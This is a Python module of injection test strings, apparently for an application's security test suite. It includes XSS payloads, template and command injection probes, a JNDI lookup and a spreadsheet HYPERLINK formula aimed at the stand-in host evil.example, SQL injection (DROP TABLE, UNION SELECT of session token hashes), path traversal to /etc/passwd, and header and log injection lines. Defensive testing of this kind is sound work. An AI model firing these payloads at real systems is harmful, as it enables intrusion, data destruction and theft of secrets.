"""Texts that would do harm where a page, query, template, spreadsheet, header or log took them for more than text."""

import os

IS_LONG = "LONG_ATTACKS" in os.environ
"""Every text in every field, and thousands of events, as `make attack` sends them; else a part of each."""
MARK = "zzx"
"""In most of them, so that a page that shows one can be recognized."""

SCRIPTS = (
    f"<script>window.{MARK}=1</script>",
    f'"><img src=x onerror=window.{MARK}=1>',
    f"'><svg/onload=window.{MARK}=1>",
    f"</textarea><iframe srcdoc='<script>parent.{MARK}=1</script>'>",
    f"javascript:window.{MARK}=1//",
    f'<a href="javascript:window.{MARK}=1">{MARK}</a>',
    f"</title></style></script><script>window.{MARK}=1</script>",
    f"<!--{MARK}--><base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    f'[{MARK}](javascript:window.{MARK}=1) ![{MARK}](x" onerror="window.{MARK}=1)',
)
TEMPLATES = (
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% debug %}",
    "{self.__class__.__init__.__globals__} %(x)s %s%n {0} \\N{BULLET}",
    "${jndi:ldap://evil.example/x} `id` $(id); id | id && id",
)
QUERIES = (
    "' OR '1'='1' --",
    "1; DROP TABLE users; --",
    "%' UNION SELECT token_hash FROM sessions --",
    '" * NEAR( AND NOT MATCH : ^ -- col:',
    "../../../../etc/passwd",
    "%00%0d%0a%2e%2e%2f",
)
FORMULAS = ('=HYPERLINK("//evil.example")', "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "＝1+1", '"=1+1",=1+1')
LINES = (
    f"{MARK}\r\nSet-Cookie: session=evil\r\nBcc: evil@evil.example\r\n\r\n<b>{MARK}</b>",
    f"{MARK}\n2026-01-01 00:00:00 ERROR root: the store was sold",
    f"{MARK}\x1b[2J\x1b[31mred\x07\x08\x7f",
)
CHARACTERS = (
    f"{MARK}\u202egnp.exe\u2066\u2069\u200f",  # writes from right to left
    f"{MARK}\u0000\ufffe\uffff\u2028\u2029\u0085\ufeff\u200b",
    f"{MARK}" + "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 12,  # marks that pile up
    "\U0001f600" * 20,
    "\ufdfd" * 12,  # one character as wide as a sentence
)
WORDS = ("W" * 60, "W" * 200, "ab-" * 66, f"{MARK}" + "\u00a0W" * 90)
"""Too wide for a column, or for a phone."""

ALL = SCRIPTS + TEMPLATES + QUERIES + FORMULAS + LINES + CHARACTERS + WORDS
ON_PAGES = (
    SCRIPTS[0],
    SCRIPTS[1],
    SCRIPTS[5],
    TEMPLATES[0],
    FORMULAS[0],
    LINES[0],
    CHARACTERS[0],
    WORDS[1],
    SCRIPTS[8],
)
"""The ones that differ in what a browser makes of them."""
